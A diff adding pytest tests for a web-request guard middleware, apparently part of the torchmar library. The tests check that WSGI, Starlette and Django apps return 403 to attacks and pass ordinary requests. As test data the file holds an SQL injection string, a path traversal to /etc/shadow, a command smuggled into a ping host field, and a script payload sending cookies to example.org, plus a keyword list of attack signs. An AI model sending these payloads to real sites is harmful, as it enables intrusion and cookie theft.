@@ -1,0 +1,222 @@
+"""Real applications behind the guard: attacks get 403, people's requests pass, on WSGI, ASGI and Django."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Callable, Iterable, Iterator
+from pathlib import Path
+from typing import Any
+from wsgiref.simple_server import WSGIRequestHandler, make_server
+
+import pytest
+import requests
+
+from tests.support.servers import write_config
+from torchmar import archive, recipe
+from torchmar.connection import Endpoint
+from torchmar.engines.builtin import Builtin
+from torchmar.guard import AsgiGuard, Guard, WsgiGuard
+
+# The middleware is tested, and rules stand for the model.
+RULES = """
+from urllib.parse import unquote_plus
+
+SIGNS = ("union select", "../..", "; cat ", "<script")
+
+def handle(rows, context):
+    if rows is None:
+        return None
+    texts = [unquote_plus(row["body"]["text"]).lower() for row in rows]
+    found = [any(sign in text for sign in SIGNS) for text in texts]
+    return [{"attack": 0.99 if one else 0.01, "normal": 0.01 if one else 0.99} for one in found]
+"""
+AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
+SQL = "7' UNION SELECT login, password FROM users-- "
+SCRIPT = "nice <script>fetch('//example.org/' + document.cookie)</script>"
+
+# What a client sends: method, path, and arguments of requests.
+ATTACKS: dict[str, tuple[str, str, dict[str, Any]]] = {
+    "sql": ("GET", "/products", {"params": {"category": "shoes", "id": SQL}}),
+    "path": ("GET", "/download", {"params": {"file": "../../../../etc/shadow"}}),
+    "command": ("GET", "/ping", {"params": {"host": "127.0.0.1; cat /etc/passwd"}}),
+    "form": ("POST", "/comments", {"data": {"author": "ada", "text": SCRIPT}}),
+    "json": ("POST", "/comments", {"json": {"author": "ada", "text": SCRIPT}}),
+}
+NORMAL: dict[str, tuple[str, str, dict[str, Any]]] = {
+    "page": ("GET", "/blog/2026/11/29/how-we-moved/", {}),
+    "search": ("GET", "/search", {"params": {"q": "where to select a union", "page": "2"}}),
+    "form": ("POST", "/contact", {"data": {"name": "Seán O'Brien", "message": "It's fine -- thanks; bye (for now)!"}}),
+    "json": ("POST", "/api/posts", {"json": {"title": "News", "body": "<p>It's <b>here</b>: 3 < 4 & so on</p>"}}),
+    "file": ("PUT", "/photos/1.png", {"data": b"\x89PNG\r\n" + SQL.encode(), "headers": {"Content-Type": "image/png"}}),
+}
+
+
+@pytest.fixture(scope="module")
+def model(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Endpoint]:
+    """Serve the rules as a model."""
+    folder = tmp_path_factory.mktemp("guard")
+    (folder / "handler.py").write_text(RULES)
+    made = recipe.Recipe.model_validate({"name": "guard", "version": "1.0", "handler": "handler.py"})
+    built = archive.pack(archive.collect_members(made, folder), folder / "store" / "guard-1.0.mar").path
+    with Builtin(write_config(folder), folder / "store", folder / "run") as running:
+        running.load(built)
+        yield running.server
+
+
+@pytest.fixture
+def guard(model: Endpoint) -> Iterator[Guard]:
+    guard = Guard(model, time_limit_s=10, on_failure="block")
+    yield guard
+    guard.close()
+
+
+Send = Callable[[str, str, dict[str, Any]], requests.Response]
+
+
+def sender(port: int) -> Send:
+    def send(method: str, path: str, arguments: dict[str, Any]) -> requests.Response:
+        headers = {"User-Agent": AGENT, **arguments.get("headers", {})}
+        return requests.request(
+            method, f"http://127.0.0.1:{port}{path}", timeout=30, **{**arguments, "headers": headers}
+        )
+
+    return send
+
+
+def check(send: Send) -> None:
+    """Send attacks and normal requests; what passes is answered with the body that was sent."""
+    for name, request in ATTACKS.items():
+        response = send(*request)
+        assert (response.status_code, response.text) == (403, "Forbidden\n"), name
+    for name, request in NORMAL.items():
+        response = send(*request)
+        assert response.status_code == 200, name
+        body = response.request.body or b""
+        assert response.content == (body.encode() if isinstance(body, str) else body), name
+
+
+class Quiet(WSGIRequestHandler):
+    def log_message(self, *arguments: Any) -> None:
+        """Log nothing."""
+
+
+def test_a_wsgi_application(guard: Guard) -> None:
+    def application(environ: dict[str, Any], start_response: Any) -> Iterable[bytes]:
+        start_response("200 OK", [("Content-Type", "application/octet-stream")])
+        return [environ["wsgi.input"].read(int(environ.get("CONTENT_LENGTH") or 0))]
+
+    with make_server("127.0.0.1", 0, WsgiGuard(application, guard), handler_class=Quiet) as server:
+        thread = threading.Thread(target=server.serve_forever)
+        thread.start()
+        try:
+            check(sender(server.server_port))
+        finally:
+            server.shutdown()
+            thread.join()
+
+
+def test_a_starlette_application(guard: Guard) -> None:
+    uvicorn = pytest.importorskip("uvicorn")
+    applications = pytest.importorskip("starlette.applications")
+    from starlette.requests import Request
+    from starlette.responses import Response
+    from starlette.routing import Route
+
+    async def echo(request: Request) -> Response:
+        return Response(await request.body())
+
+    app = applications.Starlette(routes=[Route("/{path:path}", echo, methods=["GET", "POST", "PUT"])])
+    app.add_middleware(AsgiGuard, guard=guard)
+    server = uvicorn.Server(uvicorn.Config(app, port=0, log_level="error"))
+    thread = threading.Thread(target=server.run)
+    thread.start()
+    try:
+        while not server.started:
+            assert thread.is_alive()
+            time.sleep(0.01)
+        check(sender(server.servers[0].sockets[0].getsockname()[1]))
+    finally:
+        server.should_exit = True
+        thread.join()
+
+
+DJANGO = """
+import asyncio, json, os, sys
+from pathlib import Path
+import django
+from django.conf import settings
+from django.http import HttpResponse
+from django.test import AsyncClient, Client
+from django.urls import re_path
+from torchmar import archive, recipe
+from torchmar.connection import Endpoint
+
+def echo(request, path):
+    return HttpResponse(request.body)
+
+urlpatterns = [re_path("^(.*)$", echo)]
+settings.configure(
+    ROOT_URLCONF="__main__",
+    ALLOWED_HOSTS=["testserver"],
+    MIDDLEWARE=["torchmar.guard.django.GuardMiddleware"],
+    TORCHMAR_GUARD={"server": Endpoint.from_run_folder(Path(os.environ["RUN_FOLDER"])), "time_limit_s": 10},
+)
+django.setup()
+
+def send(client, method, path, data, kind, headers):
+    return client.generic(method, path, data, content_type=kind, headers=headers)
+
+async def send_all(rows):
+    return [await send(AsyncClient(), *row) for row in rows]
+
+rows = json.load(sys.stdin)
+answers = asyncio.run(send_all(rows)) if sys.argv[1] == "async" else [send(Client(), *row) for row in rows]
+print(json.dumps([[answer.status_code, answer.content.decode("latin-1")] for answer in answers]))
+"""
+
+
+@pytest.mark.parametrize("kind", ["sync", "async"])
+def test_a_django_project(model: Endpoint, kind: str, tmp_path: Path) -> None:
+    pytest.importorskip("django")
+    sent = []
+    for method, path, arguments in [*ATTACKS.values(), *NORMAL.values()]:
+        prepared = requests.Request(method, f"http://testserver{path}", **arguments).prepare()
+        body = prepared.body or b""
+        data = body if isinstance(body, str) else body.decode("latin-1")
+        content_type = prepared.headers.get("Content-Type", "application/octet-stream")
+        sent.append([method, prepared.path_url, data, content_type, {"user-agent": AGENT}])
+    script = tmp_path / "project.py"
+    script.write_text(DJANGO)
+    ran = subprocess.run(
+        [sys.executable, script, kind],
+        input=json.dumps(sent),
+        capture_output=True,
+        text=True,
+        env={**os.environ, "RUN_FOLDER": str(model.key_file.parent if model.key_file else "")},
+    )
+    assert not ran.returncode, ran.stderr
+    answers = json.loads(ran.stdout)
+    assert [status for status, _ in answers] == [403] * len(ATTACKS) + [200] * len(NORMAL)
+
+
+def test_a_threshold_above_the_probability_lets_pass(model: Endpoint) -> None:
+    guard = Guard(model, threshold=1.0, time_limit_s=10)
+    verdict = guard.check("GET", "/products?id=7", {"user-agent": AGENT})
+    guard.close()
+    assert not verdict.blocked
+    assert verdict.error is None
+    assert verdict.probability is not None
+    assert verdict.probability < 0.5
+
+
+def test_another_model_is_a_failure_with_its_name(model: Endpoint) -> None:
+    guard = Guard(model, "missing", time_limit_s=10, on_failure="block")
+    verdict = guard.check("GET", "/", {})
+    guard.close()
+    assert (verdict.blocked, verdict.status, verdict.probability) == (True, 503, None)
+    assert "missing" in (verdict.error or "")
